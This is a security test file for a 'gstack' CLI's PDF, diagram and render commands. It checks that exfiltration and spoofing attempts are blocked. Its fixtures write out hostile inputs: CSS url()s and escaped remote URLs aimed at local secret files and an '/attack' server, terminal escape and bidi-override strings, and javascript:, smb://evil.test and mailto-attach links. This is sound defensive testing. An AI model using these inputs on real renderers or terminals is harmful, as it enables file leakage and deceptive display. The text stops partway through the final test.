// Attacks on the render commands' promises (docs/SECURITY.md): `gstack pdf` never inlines an
// image from a dot-path (.ssh, .git, .env), as the render server never serves one; and no input
// of `gstack pdf`, `gstack diagram` or `gstack render` (the document, a --header/--footer file,
// an image) can hang a call: a FIFO, a device or a directory is refused at once; and the files
// `gstack pdf --to html` and `gstack diagram --svg` write load nothing outside themselves when a
// person opens them. The compiled CLI, real Chromium, real files and FIFOs in a temp folder, a
// real loopback server that counts what reaches it.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, linkSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { PNG } from 'pngjs';
import type { Request } from 'playwright-core';
import { ROOT, cliWith, expectExit } from './helpers/cli.js';
import { pdfImageList, pdfInfo } from './helpers/inspect.js';
import { startFixtureServer, type FixtureServer } from './helpers/fixture-server.js';

let work: string;
let docs: string;
before(() => {
  work = mkdtempSync(join(tmpdir(), 'gstack-sec-render-'));
  docs = join(work, 'docs');
  mkdirSync(join(docs, 'img'), { recursive: true });
});
after(() => rmSync(work, { recursive: true, force: true }));

const gstack = cliWith(() => ({ cwd: docs, env: { GSTACK_SKIP_ASIDE: '1', GSTACK_HOME: join(work, 'home') }, timeoutMs: 60_000 }));
const SWATCH = readFileSync(join(ROOT, 'test', 'fixtures', 'markdown', 'img', 'swatch.png'));
/** A call refused at once: well under any deadline it could have hung past. */
const QUICK_MS = 15_000;

test('gstack pdf never inlines an image under a dot-path, as written or as its real path, and says which and why', async () => {
  mkdirSync(join(docs, '.ssh'));
  mkdirSync(join(docs, '.git'));
  const sshBytes = Buffer.from('\x89PNG\r\n\x1a\nDOTSSHPNG\n', 'latin1');
  writeFileSync(join(docs, '.ssh', 'id.png'), sshBytes);
  writeFileSync(join(docs, '.git', 'x.png'), SWATCH);
  writeFileSync(join(docs, 'img', 'ok.png'), SWATCH);
  // A visible name whose real path is hidden.
  symlinkSync(join(docs, '.git', 'x.png'), join(docs, 'img', 'shown.png'));
  writeFileSync(join(docs, 'md2.md'), `# Report\n\n![s](.ssh/id.png)\n![g](.git/x.png)\n![l](img/shown.png)\n![f](file://${join(docs, '.git', 'x.png')})\n![ok](img/ok.png)\n`);

  const html = await gstack(['pdf', 'md2.md', 'out.html', '--to', 'html']);
  expectExit(html, 0);
  const page = readFileSync(join(docs, 'out.html'), 'utf8');
  assert.ok(!page.includes(sshBytes.toString('base64')), 'the .ssh file is inlined');
  const swatch = SWATCH.toString('base64');
  assert.equal(page.split(swatch).length - 1, 1, 'only img/ok.png is inlined, not the .git image behind any name');
  for (const ref of ['.ssh/id.png', '.git/x.png', 'img/shown.png']) {
    assert.match(html.stderr, new RegExp(`missing image ${ref.replace(/\./g, '\\.')} \\(under \\.(ssh|git): files and folders whose name starts with "\\." are never inlined\\)`), html.stderr);
  }

  // In a PDF: one image (the visible one), and --strict makes the refusal a failure.
  const pdf = await gstack(['pdf', 'md2.md', 'out.pdf']);
  expectExit(pdf, 0);
  const images = pdfImageList(join(docs, 'out.pdf')).trim().split('\n').slice(2);
  assert.equal(images.length, 1, pdfImageList(join(docs, 'out.pdf')));
  const strict = await gstack(['pdf', 'md2.md', 'strict.pdf', '--strict']);
  expectExit(strict, 1);
  assert.match(strict.stderr, /missing image \.ssh\/id\.png \(under \.ssh: .*never inlined\) \(--strict\)/);
  assert.ok(!existsSync(join(docs, 'strict.pdf')));
  // Pass 44 (B44): a line break in an image's name split the notice, so the document began a
  // stderr line of its own (`gstack pdf: wrote …`). It is shown as \n inside the one line.
  writeFileSync(join(docs, 'nl.md'), '# T\n\n<img src=".s&#x0A;gstack pdf: wrote /tmp/fine.pdf.png">\n');
  const split = await gstack(['pdf', 'nl.md', 'nl.pdf']);
  expectExit(split, 0);
  assert.ok(split.stderr.split('\n').every((l) => !l.startsWith('gstack pdf: wrote /tmp/fine')), split.stderr);
  assert.match(split.stderr, /^gstack pdf: missing image \.s\\ngstack pdf: wrote \/tmp\/fine\.pdf\.png \(/m);
});

test('a FIFO, a device or a directory as an input of pdf, diagram or render is a usage error at once, never a hang', async () => {
  const fifo = (name: string) => {
    const p = join(docs, name);
    execFileSync('mkfifo', [p]);
    return p;
  };
  fifo('fifo.md');
  fifo('fifo.mmd');
  fifo('header.html');
  writeFileSync(join(docs, 'page.html'), '<!doctype html><title>p</title><p>page</p>');
  mkdirSync(join(docs, 'folder.md'));
  const calls: Array<{ args: string[]; says: RegExp }> = [
    { args: ['pdf', 'fifo.md', '--timeout', '3000'], says: /input fifo\.md is a FIFO \(named pipe\), not a regular file: only regular files are read/ },
    { args: ['pdf', '/dev/zero', 'zero.pdf'], says: /input \/dev\/zero is a device, not a regular file/ },
    { args: ['pdf', 'folder.md'], says: /input is a directory: folder\.md/ },
    { args: ['diagram', 'fifo.mmd'], says: /input fifo\.mmd is a FIFO \(named pipe\), not a regular file/ },
    { args: ['render', 'page.html', '--pdf', 'p.pdf', '--header', 'header.html'], says: /--header header\.html: the file is a FIFO \(named pipe\), not a regular file/ },
    { args: ['pdf', 'page.html', '--header', 'header.html'], says: /--header header\.html: the file is a FIFO/ },
  ];
  for (const c of calls) {
    const r = await gstack(c.args);
    expectExit(r, 2);
    assert.ok(r.ms < QUICK_MS, `gstack ${c.args.join(' ')} took ${r.ms} ms`);
    assert.match(r.stderr, c.says, `gstack ${c.args.join(' ')}`);
  }

  // An image that is a FIFO is a missing image (the render goes on), not a hang.
  fifo('img/pipe.png');
  writeFileSync(join(docs, 'pipe.md'), '# Pipe\n\n![p](img/pipe.png)\n');
  const r = await gstack(['pdf', 'pipe.md', 'pipe.html', '--to', 'html']);
  expectExit(r, 0);
  assert.ok(r.ms < QUICK_MS * 2, `took ${r.ms} ms`);
  assert.match(r.stderr, /missing image img\/pipe\.png \(a FIFO \(named pipe\), not a regular file\)/);
});

// Seventh red-team pass: an output path that is a FIFO held render, pdf and diagram past
// --timeout (nobody reads the pipe).
test('a FIFO as the output of render, pdf or diagram is a usage error at once, never a hang', async () => {
  writeFileSync(join(docs, 'out-page.html'), '<!doctype html><title>p</title><p>page</p>');
  writeFileSync(join(docs, 'out.md'), '# Out\n\ntext\n');
  writeFileSync(join(docs, 'out.mmd'), 'graph TD\n  A-->B\n');
  for (const name of ['o-render.pdf', 'o-md.pdf', 'o-dia.svg']) execFileSync('mkfifo', [join(docs, name)]);
  const calls = [
    ['render', 'out-page.html', '--pdf', 'o-render.pdf', '--timeout', '5000'],
    ['pdf', 'out.md', 'o-md.pdf', '--timeout', '5000'],
    ['diagram', 'out.mmd', '--svg', 'o-dia.svg'],
  ];
  for (const args of calls) {
    const r = await gstack(args);
    expectExit(r, 2);
    assert.ok(r.ms < QUICK_MS, `gstack ${args.join(' ')} took ${r.ms} ms`);
    assert.match(r.stderr, /it is a FIFO \(named pipe\), not a file/, `gstack ${args.join(' ')}`);
  }
});

// Eighth red-team pass: what `gstack pdf --to html` and `gstack diagram --svg` write is opened
// later by a person, from disk, where a browser's 'self' is every local file. A raw <style> in
// the Markdown (G2), a diagram's labels and themeCSS (G3) and CSS escapes that hid a remote
// url() from the <style> check (G4) made the written files load local files and a server.
// The files are opened the way a person opens them: a file: page in real Chromium.

interface Opened {
  /** Every load the browser went through with (answered, or failed for any reason but the
   * page's CSP), other than the page itself and data: URLs. */
  requests: string[];
  /** What the page's CSP refused. */
  refused: string[];
  images: Array<{ src: string; naturalWidth: number }>;
  /** How many elements have a computed background-image other than none. */
  backgrounds: number;
  /** The computed colour of the first highlighted keyword, and of the body. */
  keyword?: string;
  body: string;
  svgs: number;
}

/** Opens `file` from disk in Chromium and reports what it loaded. */
async function openFromDisk(file: string): Promise<Opened> {
  const { chromium } = await import('playwright-core');
  const { findChromium, chromiumArgs } = await import('../driver/browser/chromium-find.js');
  const browser = await chromium.launch({ executablePath: findChromium().path, args: chromiumArgs() });
  try {
    const page = await browser.newPage();
    const self = pathToFileURL(file).href;
    const requests: string[] = [];
    // A request the CSP refuses is still announced ('request'), then fails as 'csp'; any other
    // end (a response, a missing file) means the browser went to fetch it.
    const refused: string[] = [];
    const fetched = (r: Request) => {
      if (r.url() !== self && !r.url().startsWith('data:')) requests.push(r.url());
    };
    page.on('requestfinished', fetched);
    page.on('requestfailed', (r) => {
      if (/^csp$|ERR_BLOCKED_BY_CSP/i.test(r.failure()?.errorText ?? '')) refused.push(r.url());
      else fetched(r);
    });
    await page.goto(self, { waitUntil: 'load' });
    // Backgrounds and late CSS loads start after load; give them time to be requested.
    await page.waitForTimeout(500);
    const seen = (await page.evaluate(`(() => {
      const all = Array.from(document.querySelectorAll('*'));
      const kw = document.querySelector('.hljs-keyword');
      return {
        images: Array.from(document.querySelectorAll('img')).map((i) => ({ src: i.getAttribute('src') || '', naturalWidth: i.naturalWidth })),
        backgrounds: all.filter((e) => getComputedStyle(e).backgroundImage !== 'none').length,
        keyword: kw ? getComputedStyle(kw).color : undefined,
        body: document.body ? getComputedStyle(document.body).color : '',
        svgs: document.querySelectorAll('svg').length,
      };
    })()`)) as Omit<Opened, 'requests' | 'refused'>;
    return { ...seen, requests, refused };
  } finally {
    await browser.close();
  }
}

/** A real PNG that differs from SWATCH (a red 4x4), for the file an attack tries to load. */
function secretPng(): Buffer {
  const png = new PNG({ width: 4, height: 4 });
  for (let i = 0; i < png.data.length; i += 4) png.data.set([220, 20, 20, 255], i);
  return PNG.sync.write(png);
}

let server: FixtureServer;
let secretDir: string;
let absSecret: string;
/** The server's hits whose path starts with /attack (every URL the documents name). */
const hits = () => server.requests.filter((r) => r.path.startsWith('/attack'));

/** The outside folder and files an attack aims at: ../outside/secret.png beside the document
 * folder, an absolute path, a dot-folder inside it and a symlink that leads out of it. */
function plantTargets(dir: string): void {
  secretDir = join(work, 'outside');
  mkdirSync(secretDir, { recursive: true });
  absSecret = join(secretDir, 'abs-secret.png');
  writeFileSync(join(secretDir, 'secret.png'), secretPng());
  writeFileSync(absSecret, secretPng());
  mkdirSync(join(dir, '.env'), { recursive: true });
  writeFileSync(join(dir, '.env', 'x.png'), secretPng());
  if (!existsSync(join(dir, 'out-link.png'))) symlinkSync(join(secretDir, 'secret.png'), join(dir, 'out-link.png'));
  writeFileSync(join(dir, 'img', 'ok.png'), SWATCH);
}

test('the HTML file `gstack pdf --to html` writes loads nothing but data: when opened from disk: raw <style> url()s, diagram labels and themeCSS, escaped remote spellings', async () => {
  server = await startFixtureServer();
  try {
    plantTargets(docs);
    const port = new URL(server.origin).port;
    const remote = (name: string) => `http://127.0.0.1:${port}/attack/${name}`;
    const md = `# Attack

<style>
.g2a { background-image: url(../outside/secret.png); }
.g2b { background-image: url(.env/x.png); }
.g2c { background-image: url(${absSecret}); }
.g2d { background-image: url(file://${absSecret}); }
.g2e { background-image: url(out-link.png); }
</style>
<style>.g4a { background-image: url(\\68 ttp://127.0.0.1:${port}/attack/g4a); }</style>
<style>.g4b { background-image: image-set("${remote('g4b')}" 1x); }</style>
<style>@font-face { font-family: g4c; src: url(\\000068ttp://127.0.0.1:${port}/attack/g4c); } .g4c { font-family: g4c; }</style>
<style>.g4d { background-image: url("ht\\tp://127.0.0.1:${port}/attack/g4d"); }</style>

<div class="g2a">a</div><div class="g2b">b</div><div class="g2c">c</div><div class="g2d">d</div><div class="g2e">e</div>
<div class="g4a">a</div><div class="g4b">b</div><div class="g4c">c</div><div class="g4d">d</div>

![kept](img/ok.png)

\`\`\`js
const kept = true;
\`\`\`

\`\`\`mermaid
---
config:
  themeCSS: "svg{background:url(../outside/secret.png)} .node rect{fill:url(${remote('theme')})}"
---
graph TD
  A["<img src='${absSecret}'>"] --> B["<img src='../outside/secret.png'>"]
  B --> C["<img src='.env/x.png'>"]
  C --> D["<img src='${remote('label')}'>"]
  D --> E["<img src='out-link.png'>"]
\`\`\`

<style>.st3{color:red}</style/><meta http-equiv="refresh" content="0;url=${remote('st3')}">
`;
    writeFileSync(join(docs, 'attack.md'), md);
    const r = await gstack(['pdf', 'attack.md', 'attack.html', '--to', 'html']);
    expectExit(r, 0);
    const file = join(docs, 'attack.html');
    const html = readFileSync(file, 'utf8');
    // The policy is the first element of <head>, and it allows no 'self', no file:, no script.
    const first = /<head>\s*(<[^>]*>)/.exec(html)?.[1] ?? '';
    assert.match(first, /^<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'none'; style-src 'unsafe-inline'; img-src data:; font-src data:;/, first);
    assert.doesNotMatch(html, /<script/i);
    // Seventeenth pass (B17): `</style/>` ends a style for the browser, not for the sanitizer's
    // parser, so a meta refresh after it reached the file.
    assert.doesNotMatch(html, /http-equiv="refresh"/i);
    // G4: each escaped remote spelling is read as the browser reads it, and its block dropped.
    for (const name of ['g4a', 'g4b', 'g4c', 'g4d']) {
      assert.match(r.stderr, new RegExp(`blocked remote (resource|font) http://127\\.0\\.0\\.1:${port}/attack/${name} \\(its <style> block was dropped`), r.stderr);
    }

    const opened = await openFromDisk(file);
    assert.deepEqual(opened.requests, [], 'the file loaded local files or the server');
    assert.deepEqual(hits(), [], 'the server was reached');
    // Proof the policy refused them (not that they were never there): the local files the
    // <style> and the labels name, and the label's and themeCSS's server URLs.
    const secretUrl = pathToFileURL(join(secretDir, 'secret.png')).href;
    for (const u of [secretUrl, pathToFileURL(absSecret).href, pathToFileURL(join(docs, '.env', 'x.png')).href, remote('label')]) {
      assert.ok(opened.refused.includes(u), `the CSP did not refuse ${u}: ${JSON.stringify(opened.refused)}`);
    }
    const loaded = opened.images.filter((i) => i.naturalWidth > 0);
    assert.equal(loaded.length, 1, `only the inlined image shows: ${JSON.stringify(opened.images.map((i) => [i.src.slice(0, 40), i.naturalWidth]))}`);
    assert.match(loaded[0].src, /^data:image\/png;base64,/);
    assert.ok(opened.images.length >= 6, 'the diagram labels lost their <img> elements: the test no longer attacks');
    assert.ok(opened.backgrounds >= 5, 'the <style> url()s were not applied: the test no longer attacks');
    // What the promise allows still works: the diagram inline, highlighting.
    assert.ok(opened.svgs >= 1, 'the diagram is not in the file');
    assert.ok(opened.keyword && opened.keyword !== opened.body, `highlight styles not applied: ${opened.keyword} vs ${opened.body}`);

    // PDF mode loads none of them either: no server hit, and no image the size of the secret
    // (4x4) in the PDF; the inlined swatch is there.
    const pdf = await gstack(['pdf', 'attack.md', 'attack.pdf']);
    expectExit(pdf, 0);
    assert.deepEqual(hits(), [], 'printing the PDF reached the server');
    const list = pdfImageList(join(docs, 'attack.pdf'));
    const sizes = list.trim().split('\n').slice(2).map((l) => l.trim().split(/\s+/).slice(3, 5).join('x'));
    assert.ok(!sizes.includes('4x4'), `a secret image is in the PDF:\n${list}`);
    assert.ok(sizes.includes(`${PNG.sync.read(SWATCH).width}x${PNG.sync.read(SWATCH).height}`), list);
  } finally {
    await server.close();
  }
});

test('the SVG `gstack diagram --svg` writes names nothing outside itself: labels, themeCSS and escaped spellings are removed', async () => {
  server = await startFixtureServer();
  try {
    const dir = join(work, 'dia');
    mkdirSync(join(dir, 'img'), { recursive: true });
    plantTargets(dir);
    const port = new URL(server.origin).port;
    const remote = (name: string) => `http://127.0.0.1:${port}/attack/${name}`;
    writeFileSync(join(dir, 'fm.mmd'), `---
config:
  themeCSS: 'svg{background:url(../outside/secret.png)} .cluster rect{fill:url(${absSecret})} .edgePath{stroke:url(file://${absSecret})} .node rect{fill:url(${remote('theme')})} .edgeLabel{background:url(\\68 ttp://127.0.0.1:${port}/attack/esc)} .label{background-image:image-set("${remote('set')}" 1x)} @import "${remote('imp')}";'
---
graph TD
  A["<img src='${absSecret}'>"] --> B["<img src='../outside/secret.png'>"]
  B --> C["<img src='.env'>"]
  C --> D["<img src='${remote('label')}'>"]
  D --> E["<img src='out-link.png'>"]
  E --> F["<img src='file://${absSecret}'>"]
  F --> G["Label\u001b[2J\u0008\u009b31m end"]
`);
    const r = await gstack(['diagram', 'fm.mmd', '--svg', 'fm.svg'], { cwd: dir });
    expectExit(r, 0);
    assert.match(r.stderr, /fm\.mmd: removed \d+ reference\(s\) to files or addresses outside the SVG/);
    const svg = readFileSync(join(dir, 'fm.svg'), 'utf8');
    // A label's controls are no XML characters and would reach a terminal that greps the file.
    assert.ok(!/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/.test(svg), 'no controls in the SVG');
    assert.match(svg, /Label\uFFFD\[2J/);
    // Still the diagram: a flowchart whose arrowheads point at its own markers.
    assert.match(svg, /aria-roledescription="flowchart-v2"/);
    assert.match(svg, /url\(#gstack-mmd-0_flowchart-v2-pointEnd\)/);
    const urls = [...svg.matchAll(/url\(\s*["']?([^"')]*)/gi)].map((m) => m[1]);
    assert.ok(urls.length > 0);
    for (const u of urls) assert.match(u, /^(#|data:)/, `url(${u}) left in the SVG`);
    for (const m of svg.matchAll(/\s((?:xlink:)?href|src)\s*=\s*["']([^"']*)/gi)) assert.match(m[2], /^(#|data:)/, `${m[1]}="${m[2]}" left in the SVG`);
    for (const name of ['theme', 'esc', 'set', 'imp', 'label']) assert.ok(!svg.includes(`/attack/${name}`), `${name} left in the SVG`);
    assert.ok(!svg.includes('secret.png') && !svg.includes(absSecret), 'a local file is still named');

    const opened = await openFromDisk(join(dir, 'fm.svg'));
    assert.deepEqual(opened.requests, [], 'the SVG loaded local files or the server');
    assert.deepEqual(hits(), [], 'the server was reached');
  } finally {
    await server.close();
  }
});

// Tenth red-team pass: front matter put a clear-screen, a window-title change and an RLO in the
// PDF's Author field, which `pdfinfo` (what the skill tells an agent to run) puts on screen.
test('a PDF\'s Title and Author carry no terminal controls or bidi overrides, whatever the front matter says', async () => {
  const md = join(docs, 'meta.md');
  writeFileSync(md, '---\nauthor: "Bob\u001b[2J\u001b]0;owned\u0007\u202eRED"\ntitle: "Report\u202eTXT.exe"\n---\n# Body\n\ntext\n');
  const out = join(docs, 'meta.pdf');
  expectExit(await gstack(['pdf', md, out]), 0);
  const info = pdfInfo(out);
  for (const field of ['Author', 'Title']) {
    assert.ok(info[field], `${field} is set: ${JSON.stringify(info)}`);
    assert.ok(!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(info[field]), `${field}: ${JSON.stringify(info[field])}`);
  }
  assert.match(info.Author, /^Bob.*RED$/);
});

// Thirteenth red-team pass: a page's document.title, with an RLO, Unicode tags and C1 controls,
// reached the Title of the PDF `gstack render --pdf` and a script's pg.pdf() printed (the
// cookbook's pdf shape among them).
test('a PDF printed from a page (render --pdf, a script\'s pg.pdf) has a Title with no controls, bidi overrides or tags', async () => {
  const hostile = 'Invoice \u202Efdp.exe \u009b2J' + [...'run evil'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  const page = join(docs, 'title.html');
  writeFileSync(page, `<!doctype html><title>x</title><h1>Body</h1><script>document.title = ${JSON.stringify(hostile)}</script>`);
  const rendered = join(docs, 'title-render.pdf');
  expectExit(await gstack(['render', page, '--pdf', rendered]), 0);
  const script = await gstack(['run', `const pg = await openTab(${JSON.stringify(pathToFileURL(page).href)});
await pg.pdf({ path: "printed.pdf" });
const bytes = await pg.pdf();
console.log("BYTES_TITLE_CLEAN=" + !/\\u202E|FEFF[0-9A-F]*202E/i.test(bytes.toString("latin1")));
console.log("GSTACK_STEP_OK");`, '--allow-file-urls', '--out', join(docs, 'printed')]);
  expectExit(script, 0);
  assert.match(script.stdout, /^BYTES_TITLE_CLEAN=true$/m, 'the buffer pg.pdf() returns is cleaned too');
  for (const pdf of [rendered, join(docs, 'printed', 'printed.pdf')]) {
    const title = pdfInfo(pdf).Title;
    assert.match(title, /^Invoice .*fdp\.exe/, `${pdf}: ${JSON.stringify(title)}`);
    assert.ok(!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u{E0000}-\u{E007F}]/u.test(title), `${pdf}: ${JSON.stringify(title)}`);
  }
});

// Sixteenth red-team pass (B16): the PDF's bookmarks (made from the headings) and an image's
// /Alt kept an RLO, ESC/OSC/BEL and Unicode tags while the Title of the same heading was cleaned.
test('a PDF\'s bookmarks, alt text and language tags carry no terminal controls, bidi overrides or tags', async () => {
  const tags = [...'IG'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  const md = join(docs, 'outline.md');
  writeFileSync(md, `# Quarterly report\u202efdp.exe\n\ntext [m](mailto:a@b.c?attach=/etc/passwd) [w](https://example.com/ok)\n\n## Next\u001b[2J\u001b]0;pwn\u0007 step${tags}\n\nmore\n`);
  const page = join(docs, 'outline.html');
  writeFileSync(page, `<!doctype html><html lang="en\u202e"><title>t</title><h1>Head\u202eing</h1><img alt="pic\u001b[2Jture" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><h2>Sub\u0007${tags}</h2><input type=checkbox aria-label="abc\u202edef\u200bg"><input type=text aria-label="plain\u001b[31mred"><p><a href="file:///etc/hostname">f</a> <a href="javascript:alert(1)">j</a> <a href="smb://evil.test/share/x.exe">s</a> <a href="https://example.com/ok">w</a></p>`);
  const fromMd = join(docs, 'outline.pdf');
  const fromPage = join(docs, 'outline-page.pdf');
  expectExit(await gstack(['pdf', md, fromMd]), 0);
  expectExit(await gstack(['render', page, '--pdf', fromPage]), 0);
  const { PDFDocument, PDFDict, PDFArray, PDFName, PDFString, PDFHexString } = await import('pdf-lib');
  for (const pdf of [fromMd, fromPage]) {
    const doc = await PDFDocument.load(readFileSync(pdf), { updateMetadata: false });
    const strings: string[] = [];
    // Every dictionary, also one written inside another's array: a tagged PDF keeps a form
    // control's /Desc in the /A array of its structure element (pass 26, B26).
    const visit = (o: unknown, depth: number): void => {
      if (depth > 32) return;
      if (o instanceof PDFDict) {
        for (const key of ['Title', 'Alt', 'ActualText', 'Lang', 'Desc', 'TU']) {
          const v = o.get(PDFName.of(key));
          if (v instanceof PDFString || v instanceof PDFHexString) strings.push(v.decodeText());
        }
        for (const [, inner] of o.entries()) visit(inner, depth + 1);
      } else if (o instanceof PDFArray) for (const inner of o.asArray()) visit(inner, depth + 1);
    };
    for (const [, o] of doc.context.enumerateIndirectObjects()) visit(o, 0);
    assert.ok(strings.some((t) => /^Quarterly report|^Head/.test(t)), `${pdf} has its bookmarks: ${JSON.stringify(strings)}`);
    if (pdf === fromPage) {
      assert.ok(strings.some((t) => /^plain/.test(t)) && strings.some((t) => /^abc/.test(t)), `${pdf} has its form controls' names: ${JSON.stringify(strings)}`);
      // Pass 29 (B29): a page's links to a file or a program are no live links in the PDF.
      const bytes = readFileSync(pdf).toString('latin1');
      for (const gone of ['file:///etc/hostname', 'javascript:', 'smb://']) assert.ok(!bytes.includes(gone), `${pdf} still links ${gone}`);
      assert.ok(bytes.includes('https://example.com/ok'), 'a web link stays');
      // Pass 39 (B39): a removed link takes its action with it; a URI action left without its
      // /URI made pdfinfo warn "Illegal URI-type link" on every run.
      const warned = spawnSync('pdfinfo', [pdf], { encoding: 'utf8' }).stderr;
      assert.doesNotMatch(warned, /Illegal URI-type link/);
    }
    // Pass 44 (B44): the link annotation a removed link left (no action, no destination) made
    // poppler's `pdfinfo -url` crash (SIGSEGV), listing no link at all: it is unlinked from the
    // page, and the kept web links list.
    const urls = spawnSync('pdfinfo', ['-url', pdf], { encoding: 'utf8' });
    assert.equal(urls.status, 0, `${pdf}: pdfinfo -url ${urls.signal ?? urls.status}\n${urls.stderr}`);
    assert.match(urls.stdout, /https:\/\/example\.com\/ok/, urls.stdout);
    for (const t of strings) assert.ok(!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u{E0000}-\u{E007F}]/u.test(t), `${pdf}: ${JSON.stringify(t)}`);
  }
});

// Seventeenth red-team pass (C17): a 1.3 MB Markdown table of 30,000 columns held the shared
// render host's event loop for 12-53 s while it parsed: another session's `sessions stop
// --render` went through, another session's pdf replaced the host and killed the first, and
// --timeout was not held. The parse now runs in a worker thread.
test('a Markdown that takes long to parse holds no other session: stop --render refuses, another pdf prints, --timeout ends the parse', { timeout: 120_000 }, async () => {
  const dir = join(work, 'slow-parse');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'hostile.md'), '# G\n\n' + '|a'.repeat(30000) + '|\n' + '|-'.repeat(30000) + '|\n' + ('|b'.repeat(30000) + '|\n').repeat(40));
  writeFileSync(join(dir, 'small.md'), '# Small\n\ntext\n');
  const inDir = (args: string[], key: string) => gstack(args, { cwd: dir, env: { GSTACK_SESSION_KEY: key } });
  expectExit(await inDir(['pdf', 'small.md', 'warm.pdf'], 'agent-b'), 0);
  const slowStarted = Date.now();
  const slow = inDir(['pdf', 'hostile.md', 'hostile.pdf', '--timeout', '6000'], 'agent-a');
  await new Promise((r) => setTimeout(r, 3000));
  const stop = await inDir(['sessions', 'stop', '--render'], 'agent-b');
  assert.equal(stop.code, 4, stop.stdout + stop.stderr);
  assert.match(stop.stderr, /a render is in progress/);
  const other = await inDir(['pdf', 'small.md', 'small.pdf'], 'agent-b');
  expectExit(other, 0);
  const a = await slow;
  assert.notEqual(a.code, 0, a.stdout + a.stderr);
  assert.match(a.stderr, /parsing the Markdown took longer than --timeout 6000 ms/, a.stderr);
  assert.doesNotMatch(a.stderr, /ended before the call finished|stopped by/, a.stderr);
  assert.ok(Date.now() - slowStarted < 40_000, 'the slow call ended near its --timeout');
});

// Twentieth red-team pass (C20): the make-pdf skill's own `--eval 'JSON.stringify(window.chartData)'`
// on a page whose data is 140 MB of controls held the shared render host for 109 s (another
// session's one-line render failed) and crashed it; 35 MB held it 19 s past --timeout.
test('an --eval value is measured in the page: one past the limit is the render\'s error at once, and another session\'s render goes on', { timeout: 120_000 }, async () => {
  const dir = join(work, 'big-eval');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'chart.html'), `<h1>Chart</h1><script>window.chartData = { labels: "\\u001b[31m\\u202e".repeat(1000000) }; window.done = true;</script>`);
  writeFileSync(join(dir, 'p.html'), '<h1>p</h1>');
  const inDir = (args: string[], key: string) => gstack(args, { cwd: dir, env: { GSTACK_SESSION_KEY: key } });
  expectExit(await inDir(['render', 'p.html', '--eval', '1+1'], 'agent-b'), 0);
  const started = Date.now();
  const big = inDir(['render', 'chart.html', '--wait-expr', 'window.done === true', '--eval', 'JSON.stringify(window.chartData)', '--out', 'chart-data.json', '--timeout', '45000'], 'agent-a');
  await new Promise((r) => setTimeout(r, 1500));
  const otherStarted = Date.now();
  const other = await inDir(['render', 'p.html', '--eval', '1+1'], 'agent-b');
  expectExit(other, 0);
  assert.ok(Date.now() - otherStarted < 15_000, `the other session's render was held ${Date.now() - otherStarted} ms`);
  const a = await big;
  assert.notEqual(a.code, 0, a.stdout + a.stderr);
  assert.match(a.stdout + a.stderr, /the expression returned 11000013 characters, over the 4194304 an --eval value may hold\. Return less/);
  assert.ok(!existsSync(join(dir, 'chart-data.json')), 'nothing written');
  assert.ok(Date.now() - started < 50_000, 'ended by its --timeout');
  // Under the limit, the value is written as before.
  writeFileSync(join(dir, 'small.html'), '<script>window.chartData = { labels: ["a", "b"] };</script>');
  const small = await inDir(['render', 'small.html', '--eval', 'JSON.stringify(window.chartData)', '--out', 'small.json'], 'agent-a');
  expectExit(small, 0);
  assert.equal(readFileSync(join(dir, 'small.json'), 'utf8'), '{"labels":["a","b"]}');
});

// Eighteenth red-team pass (B18): a careless `--screenshot "$TITLE"` wrote a name with an RLO;
// the --to html file and an --eval string written with --out kept a page's ESC sequences.
test('render outputs take no name with controls or look-alikes; text files they write hold no control characters', async () => {
  const dir = join(work, 'b18');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'p.html'), '<!doctype html><title>t</title><p id="p">Report \u001b]0;PWN\u0007\u001b[2J done</p>');
  writeFileSync(join(dir, 'esc.md'), '# Esc\n\ntext \u001b]0;PWN\u0007 and \u001b[2J end\n');
  for (const args of [['render', 'p.html', '--screenshot', 'report\u202ehs.png'], ['pdf', 'esc.md', 'x\u200bdoc.pdf'], ['render', 'p.html', '--pdf', 'a   b.pdf']]) {
    const r = await gstack(args, { cwd: dir });
    expectExit(r, 2);
    assert.match(r.stderr, /control, invisible or look-alike characters/, r.stderr);
  }
  // Pass 34 (B34): the folders an output path creates are names in a listing too
  // (`--screenshot "$TITLE/shot.png"`), for every command that writes outputs.
  writeFileSync(join(dir, 'd.mmd'), 'graph TD\nA-->B\n');
  const folders = [
    ['render', 'p.html', '--screenshot', 'inv\u202efdp.exe/shot.png'],
    ['pdf', 'esc.md', 'x\u001b[2J\u001b[31mred/d.pdf'],
    ['diagram', 'd.mmd', '--out-dir', 'etc\u2215passwd'],
    ['render', 'p.html', '--eval', '1+1', '--out', 'ok/a\tb/x.txt'],
    ['render', 'p.html', '--pdf', 'pay\u200bment/deep/r.pdf'],
  ];
  for (const args of folders) {
    const r = await gstack(args, { cwd: dir });
    expectExit(r, 2);
    assert.match(r.stderr, /the folder .* it would create holds control, invisible or look-alike characters/, r.stderr);
  }
  assert.deepEqual(readdirSync(dir).filter((n) => !/^[\w. -]+$/.test(n)), [], 'no folder was created');
  assert.ok(!existsSync(join(dir, 'ok')), 'not even the plain folder in front of the bad one');
  // Pass 36 (B36): a link at the output name was written through (`notes.txt -> ~/.bashrc`,
  // `r.pdf -> index.html`), another name and kind than the one checked; dangling too.
  const victim = join(work, 'b36-victim');
  mkdirSync(victim, { recursive: true });
  writeFileSync(join(victim, '.bashrc'), 'echo original\n');
  symlinkSync(join(victim, '.bashrc'), join(dir, 'notes.txt'));
  symlinkSync(join(dir, 'index-b36.html'), join(dir, 'r36.pdf'));
  symlinkSync(join(victim, '.profile'), join(dir, 'f36.svg'));
